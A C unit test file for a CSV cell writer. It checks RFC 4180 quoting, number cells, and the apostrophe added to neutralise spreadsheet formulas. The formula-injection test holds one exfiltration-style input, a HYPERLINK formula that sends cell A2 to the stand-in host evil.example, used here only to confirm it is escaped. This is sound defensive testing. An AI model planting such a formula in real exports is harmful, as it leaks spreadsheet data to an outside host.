/* The CSV cell writer: RFC 4180 quoting, the apostrophe before text that a
 * spreadsheet would run as a formula, and numbers that stay numbers. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>
#include <stdlib.h>
#include <string.h>
#include "util/csv.h"

/* The row written by one text cell (last), without its CRLF. */
static char *text(const char *s)
{
    buf b = BUF_INIT;
    csv_text_cell(&b, s, true);
    assert_true(b.len >= 2);
    assert_memory_equal(b.data + b.len - 2, "\r\n", 2);
    b.data[b.len - 2] = '\0';
    return buf_detach(&b, NULL);
}

static char *number(const char *s)
{
    buf b = BUF_INIT;
    csv_number_cell(&b, s, false);
    assert_true(b.len >= 1 && b.data[b.len - 1] == ',');
    b.data[b.len - 1] = '\0';
    return buf_detach(&b, NULL);
}

#define TEXT_IS(in, want)                     \
    do {                                      \
        char *got_ = text(in);                \
        assert_string_equal(got_, want);      \
        free(got_);                           \
    } while (0)
#define NUMBER_IS(in, want)                   \
    do {                                      \
        char *got_ = number(in);              \
        assert_string_equal(got_, want);      \
        free(got_);                           \
    } while (0)

static void formulas_get_an_apostrophe(void **state)
{
    (void)state;
    TEXT_IS("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")",
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click\"\")\"");
    TEXT_IS("=1+1", "'=1+1");
    TEXT_IS("@SUM(A1:A9)", "'@SUM(A1:A9)");
    TEXT_IS("+358 40 123", "'+358 40 123");
    TEXT_IS("-5", "'-5");                 /* text that looks like a number is still text */
    TEXT_IS("\tcmd", "'\tcmd");
    TEXT_IS("\r=1", "\"'\r=1\"");
    /* only the first character counts */
    TEXT_IS("a=1", "a=1");
    TEXT_IS(" =1", " =1");
}

static void rfc4180_quoting(void **state)
{
    (void)state;
    TEXT_IS("", "");
    TEXT_IS(NULL, "");
    TEXT_IS("Hyvä", "Hyvä");
    TEXT_IS("a,b", "\"a,b\"");
    TEXT_IS("sanoi \"hei\"", "\"sanoi \"\"hei\"\"\"");
    TEXT_IS("rivi\ntoinen", "\"rivi\ntoinen\"");
    buf b = BUF_INIT;
    csv_text_cell(&b, "x", false);
    csv_text_cell(&b, "y", true);
    assert_string_equal(b.data, "x,y\r\n");
    buf_free(&b);
}

static void numbers_stay_numbers(void **state)
{
    (void)state;
    NUMBER_IS("-5", "-5");
    NUMBER_IS("0", "0");
    NUMBER_IS("45.0", "45.0");
    NUMBER_IS("-3.50", "-3.50");
    NUMBER_IS("", "");
    /* not strictly a number: written as text, so never a formula */
    NUMBER_IS("-1+1", "'-1+1");
    NUMBER_IS("=1", "'=1");
    NUMBER_IS("5.", "5.");
    NUMBER_IS("1,5", "\"1,5\"");
    NUMBER_IS(NULL, "");
    buf b = BUF_INIT;
    csv_int_cell(&b, -5, false);
    csv_int_cell(&b, 12, true);
    assert_string_equal(b.data, "-5,12\r\n");
    buf_free(&b);
    assert_true(csv_is_number("-12.25"));
    assert_false(csv_is_number("-"));
    assert_false(csv_is_number(".5"));
    assert_false(csv_is_number("1e5"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(formulas_get_an_apostrophe),
        cmocka_unit_test(rfc4180_quoting),
        cmocka_unit_test(numbers_stay_numbers),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
